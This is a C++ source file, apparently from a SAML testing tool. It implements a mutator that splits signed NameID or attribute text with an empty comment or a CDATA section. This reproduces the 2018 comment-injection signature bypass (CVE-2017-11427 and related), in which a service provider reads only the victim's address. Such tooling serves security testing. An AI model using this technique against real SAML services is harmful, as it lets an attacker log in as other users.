// SPDX-License-Identifier: Apache-2.0
// c14n.text_split — a comment or CDATA section put into signed text after signing (Duo Labs 2018,
// CVE-2017-11427/11428/11429/11430, CVE-2018-0489; attack-catalogue C14N-COMMENT-NAMEID,
// C14N-COMMENT-ATTR, C14N-CDATA-SPLIT). Exclusive c14n without comments drops the comment and
// writes CDATA as text (xml-exc-c14n §3, xml-c14n §2.1), so the signature still verifies; an SP
// that reads only the first text node sees the prefix (the victim's address) instead of the value.
#include "mutators/c14n/c14n.hpp"
#include "mutators/mutators.hpp"
#include "samlt/core/saml_names.hpp"

namespace samlt::idp::mutators {
namespace {

namespace n = core::names;

// The elements whose text the param `element` names: the NameID, or the AttributeValues of the
// emailaddress claim or of the Attribute named by param `name`.
core::Result<std::vector<xmlNode*>> candidates(const Target& target, const std::string& element) {
  if (element == "name_id") {
    xmlNode* name_id = first_in_assertion(target, "NameID");
    return name_id ? std::vector<xmlNode*>{name_id} : std::vector<xmlNode*>{};
  }
  std::string name = std::string(n::claim_email);
  if (element == "attribute") {
    auto given = string_param(target, "name");
    if (!given) {
      return core::fail(given.error());
    }
    if (!*given) {
      return core::fail(core::Reason::mutator_params_invalid, "/name: required with element attribute");
    }
    name = **given;
  } else if (element != "email") {
    return core::fail(core::Reason::mutator_params_invalid, "/element: expected name_id, email or attribute");
  }
  std::vector<xmlNode*> values;
  for (xmlNode* attribute : core::descendants_named(target.doc->root(), n::ns_assertion, "Attribute")) {
    if (core::attribute(attribute, "Name") == name) {
      auto more = core::children_named(attribute, n::ns_assertion, "AttributeValue");
      values.insert(values.end(), more.begin(), more.end());
    }
  }
  return values;
}

}  // namespace

// Params: element (name_id | email | attribute, default name_id), name (the Attribute/@Name for
// element attribute), split (comment | cdata, default comment), at (the text before the split,
// default the victim's address). The first candidate whose text starts with `at` and goes on is
// split there: `at<!---->rest` or `at<![CDATA[rest]]>`.
core::Result<void> c14n_text_split(Target& target) {
  auto element = string_param(target, "element");
  auto split = string_param(target, "split");
  auto at = string_param(target, "at");
  for (const auto* p : {&element, &split, &at}) {
    if (!*p) {
      return core::fail(p->error());
    }
  }
  std::string how = split->value_or("comment");
  if (how != "comment" && how != "cdata") {
    return core::fail(core::Reason::mutator_params_invalid, "/split: expected comment or cdata");
  }
  std::string prefix = at->value_or(std::string(k_victim));
  auto found = candidates(target, element->value_or("name_id"));
  if (!found) {
    return core::fail(found.error());
  }
  for (xmlNode* node : *found) {
    auto text = core::simple_text(node);
    if (!text || text->size() <= prefix.size() || text->compare(0, prefix.size(), prefix) != 0) {
      continue;
    }
    std::string rest = text->substr(prefix.size());
    core::set_text(node, prefix);
    if (how == "comment") {
      xmlAddChild(node, xmlNewDocComment(node->doc, BAD_CAST ""));
      xmlAddChild(node, xmlNewDocText(node->doc, BAD_CAST rest.c_str()));
    } else {
      xmlAddChild(node, xmlNewCDataBlock(node->doc, BAD_CAST rest.c_str(), static_cast<int>(rest.size())));
    }
    return {};
  }
  return core::fail(core::Reason::mutator_not_applicable, "no " + element->value_or("name_id") +
                                                              " text starts with '" + prefix + "' and goes on");
}

}  // namespace samlt::idp::mutators
